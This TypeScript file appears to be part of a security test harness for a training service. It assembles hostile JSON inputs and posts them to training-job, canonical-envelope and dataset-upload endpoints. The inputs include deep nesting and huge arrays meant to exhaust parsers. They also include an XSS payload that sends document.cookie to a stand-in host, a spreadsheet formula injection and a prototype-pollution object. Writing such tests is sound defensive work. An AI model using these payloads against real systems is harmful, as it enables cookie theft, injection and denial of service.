import { post, upload, type Attack, type Reply, type Target } from './attacks.ts';

/** JSON of values that training is told to expect, and that are sent to do harm. */
const nested = (open: string, close: string, levels: number): string =>
  `${open.repeat(levels)}1${close.repeat(levels)}`;
const members = (count: number): string =>
  `{${Array.from({ length: count }, (_, at) => `"m${String(at)}":1`).join(',')}}`;
const rows = (count: number, row: string): string =>
  `{"rows":[${Array.from({ length: count }, () => row).join(',')}]}`;

/** Small enough for a JSON body. */
const HOSTILE_EXPECTED: Readonly<Record<string, string>> = {
  'objects in objects, 120 levels': nested('{"a":', '}', 120),
  'objects in objects, 5,000 levels': nested('{"a":', '}', 5_000),
  'lists in lists, 100,000 levels': `{"a":${nested('[', ']', 100_000)}}`,
  '40,000 members': members(40_000),
  '200,000 numbers': `{"name":[${'1,'.repeat(199_999)}1]}`,
  'rows of rows': rows(1_000, rows(20, '{"name":"a"}')),
  'rows that are all alike': rows(20_000, '{"name":"a"}'),
  'a text of 900 kB': `{"name":${JSON.stringify('a'.repeat(900_000))}}`,
  'a text of marks': `{"name":${JSON.stringify('[ <'.repeat(100_000))}}`,
  'a script': '{"name":"<script>fetch(`//x/${document.cookie}`)</script>","total":"=cmd|\' /C calc\'!A0"}',
  'names of the language':
    '{"__proto__":{"polluted":1},"constructor":{"prototype":{}},"toString":null,"name":"a"}',
  'a reference to itself': '{"$ref":"#","name":{"$ref":"#/name"}}',
  'half a surrogate pair': '{"name":"\\ud800","\\udfff":1}',
  'a number beyond all': '{"total":1e999,"name":-0}',
};

/** Only a file has room for these. */
const HOSTILE_LINES: Readonly<Record<string, string>> = {
  ...HOSTILE_EXPECTED,
  '100,000 members': members(100_000),
  '330,000 members': members(330_000),
  '500,000 rows': rows(500_000, '{"n":1}'),
  '400,000 members': members(400_000),
  'lists in lists, 2,000,000 levels': `{"a":${nested('[', ']', 2_000_000)}}`,
  'a line of 20 MB': `{"name":${JSON.stringify('a'.repeat(20_000_000))}}`,
  '2,000,000 rows': rows(2_000_000, '{"n":1}'),
};

const SCHEMA = {
  type: 'object',
  properties: {
    name: { type: 'string' },
    rows: { type: 'array', items: { type: 'object', properties: { name: { type: 'string' } } } },
  },
};

type ByExpected = (target: Target, expected: string) => Promise<Reply>;

/** The JSON of a body whose examples are as they were written. */
const bodyOf = (body: object, examples: string): string =>
  JSON.stringify({ ...body, examples: '?' }).replace('"?"', () => examples);
const examplesOf = ({ document_id }: Target, expected: string): string =>
  `[${[0, 1].map(() => `{"document_id":"${document_id}","expected":${expected}}`).join(',')}]`;
const lines = ({ document_id }: Target, expected: string): string =>
  [expected, '{"name":"b"}'].map((one) => `{"document_id":"${document_id}","expected":${one}}\n`).join('');

/** Each way in which what is expected enters the service. */
const EXAMPLE_ROUTES: Readonly<Record<string, readonly [Readonly<Record<string, string>>, ByExpected]>> = {
  'training jobs': [
    HOSTILE_EXPECTED,
    (target, expected) => {
      const body = { tenant_id: target.tenant_id, schema: SCHEMA, mode: 'fast' };
      return post(target, '/v1/training/jobs', bodyOf(body, examplesOf(target, expected)));
    },
  ],
  'canonical training.create': [
    HOSTILE_EXPECTED,
    (target, expected) => {
      const payload = bodyOf({ schema: SCHEMA, mode: 'fast' }, examplesOf(target, expected));
      const scope = { tenant_id: target.tenant_id };
      const envelope = { schema_version: '1.0', operation: 'training.create', scope, payload: '?' };
      return post(
        target,
        '/v1/canonical',
        JSON.stringify(envelope).replace('"?"', () => payload),
      );
    },
  ],
  datasets: [
    HOSTILE_LINES,
    async (target, expected) => {
      const { document_id } = await upload(target, lines(target, expected), 'a.ndjson');
      const dataset_id = document_id.replace(/^doc_/, 'ds_');
      const { tenant_id } = target;
      return post(target, '/v1/training/jobs', { tenant_id, schema: SCHEMA, dataset_id, mode: 'fast' });
    },
  ],
};

/** Attacks by what training is told to expect, by the way they take. */
export const attacksByExpected: Readonly<Record<string, readonly Attack[]>> = Object.fromEntries(
  Object.entries(EXAMPLE_ROUTES).map(([route, [corpus, send]]) => [
    route,
    Object.entries(corpus).map(([what, expected]) => ({
      what,
      send: (target: Target) => send(target, expected),
    })),
  ]),
);
